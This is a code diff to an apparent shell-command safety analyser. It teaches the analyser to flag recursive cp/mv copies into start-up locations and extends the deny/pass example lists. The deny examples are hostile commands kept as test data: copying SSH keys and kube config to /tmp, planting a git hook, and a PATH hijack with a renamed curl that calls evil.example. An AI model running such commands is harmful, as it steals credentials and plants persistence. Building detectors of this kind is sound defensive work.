@@ -269,6 +269,16 @@ function copyLike(call: Call, spec: OptionSpec, sourceRole: (recursive: boolean)
   // -T makes the destination the source itself: a directory's contents land in it (`cp -rT dotfiles ~`).
   const contents = has(p, 'T', 'no-target-directory') && (recursive || call.program === 'mv');
   if (dest && call.program !== 'ln' && (sources.some(anyName) || contents)) uses.push({ word: dest, role: 'extract', ...(call.program === 'cp' && !recursive ? { depth: 1 } : {}) });
+  // A directory copied or moved whole (`cp -r etc /`, `mv systemd ~/.config/`) lands as DEST/NAME with its files beneath
+  // under names the line does not spell, as an archive's do: any of them may be a start-up file there (`user/x.service`).
+  // (Not into a temp directory: a copy kept aside, `cp -r .git /tmp/repo-copy`, is no place anything starts from.)
+  else if (dest?.values && (recursive || call.program === 'mv')) {
+    const kept = dest.values.filter((v) => !TEMP_DIR.test(v));
+    for (const s of sources) {
+      const into = s.values === null ? kept : baseOf(s).flatMap((b) => kept.map((v) => `${v.replace(/\/+$/, '')}/${b}`));
+      if (into.length > 0) uses.push({ word: dest, role: 'extract', values: into });
+    }
+  }
   else if (call.program === 'ln' && ops.length === 1) uses.push({ word: ops[0]!, role: 'write', values: ['.'], into: baseOf(ops[0]!) });
   // A source that is the stdin (`cp /dev/stdin f`) copies what the command reads.
   const fromStdin = sources.some((w) => /^\/(dev\/stdin|dev\/fd\/0|proc\/self\/fd\/0)$/.test(value(w) ?? ''));
@@ -1636,7 +1646,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     },
     examples: { deny: ['fallocate -p -o 0 -l 1M .git/objects/pack/pack-1.pack', 'fallocate -l 1G ~/.bashrc'], pass: ['fallocate -l 1G disk.img', 'fallocate -d build/disk.img'] },
   },
-  { names: ['cp', 'gcp'], summary: 'cp: reads its sources (whole trees with -r), writes its destination', analyze: (call) => copyLike(call, CP, (r) => (r ? 'read-tree' : 'read'), ['r', 'R', 'a', 'recursive', 'archive']), examples: { deny: ['cp -rT dotfiles ~', "cp /usr/bin/curl ./cat; PATH=.:$PATH cat evil.example", "cp /usr/bin/curl /tmp/b/ls && export PATH=/tmp/b; ls evil.example", 'cp -r ~/.kube /tmp/k', 'cp ~/.ssh/id_rsa /tmp/x', 'cp evil.sh .git/hooks/pre-commit', 'cp .bashrc ~'], pass: ['cp -rT dotfiles build/out', "cp /usr/bin/cat ./c; PATH=.:$PATH ls", 'cp .env.example .env', 'cp -r src /tmp/src', 'cp ~/.bashrc ~/.bashrc.bak', '[ -f .env ] || cp .env.example .env'] } },
+  { names: ['cp', 'gcp'], summary: 'cp: reads its sources (whole trees with -r), writes its destination', analyze: (call) => copyLike(call, CP, (r) => (r ? 'read-tree' : 'read'), ['r', 'R', 'a', 'recursive', 'archive']), examples: { deny: ['cp -rT dotfiles ~', "cp /usr/bin/curl ./cat; PATH=.:$PATH cat evil.example", "cp /usr/bin/curl /tmp/b/ls && export PATH=/tmp/b; ls evil.example", 'cp -r ~/.kube /tmp/k', 'cp ~/.ssh/id_rsa /tmp/x', 'cp evil.sh .git/hooks/pre-commit', 'cp .bashrc ~', 'cp -r etc/ /', 'cp -r systemd ~/.config/'], pass: ['cp -rT dotfiles build/out', 'cp -r etc/ build/', 'cp -r dotfiles ~', "cp /usr/bin/cat ./c; PATH=.:$PATH ls", 'cp .env.example .env', 'cp -r src /tmp/src', 'cp ~/.bashrc ~/.bashrc.bak', '[ -f .env ] || cp .env.example .env'] } },
   { names: ['mv', 'gmv'], summary: 'mv: moves its sources (their content goes where the destination is)', analyze: (call) => movesSources(copyLike(call, { ...CP, flags: 'bfinTuvZ' }, () => 'read', [])), examples: { deny: ['mv ~/.ssh/id_rsa /tmp/x', 'mv ~ /tmp/x', 'mv hook .git/hooks/post-checkout'], pass: ['mv a.txt b.txt'] } },
   { names: ['install', 'ginstall'], summary: 'install: copies its sources to its destination', analyze: (call) => copyLike(call, { ...CP, flags: 'bcCdDpsvZ', valued: 'gmoStT', longValued: ['group', 'mode', 'owner', 'suffix', 'target-directory', 'strip-program'] }, () => 'read', []), examples: { deny: ['install -m 755 hook .git/hooks/pre-push', 'install -m 755 build/git /usr/local/bin/git'], pass: ['install -m 755 build/app dist/bin/app', 'install -D -m 644 config.toml out/etc/app/config.toml'] } },
   {
